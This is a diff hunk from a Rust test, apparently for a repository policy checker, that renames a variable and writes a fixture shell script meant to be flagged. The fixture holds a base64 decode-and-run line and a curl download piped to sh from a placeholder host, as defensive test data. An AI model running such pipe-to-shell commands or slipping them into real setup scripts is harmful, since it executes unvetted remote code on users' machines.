@@ -93,12 +93,12 @@ fn decode_and_run_is_an_error_and_download_and_run_a_warning() {
     let repo = sb.repo("r");
     repo.policy(POLICY);
     let b64 = ["base", "64"].concat();
-    let curl = ["cu", "rl"].concat();
+    let dl = ["cu", "rl"].concat();
     repo.write(
         "scripts/setup.sh",
         format!(
             "#!/bin/sh\nset -e\necho ZWNobyBoaQo= | {b64} -d | sh\n{b64} -d key.b64 > key.bin\n\
-             {curl} -fsSL https://get.invalid/install | sh\n{curl} -s https://api.invalid/v1 | jq .name\n"
+             {dl} -fsSL https://get.invalid/install | sh\n{dl} -s https://api.invalid/v1 | jq .name\n"
         ),
     );
     repo.write(
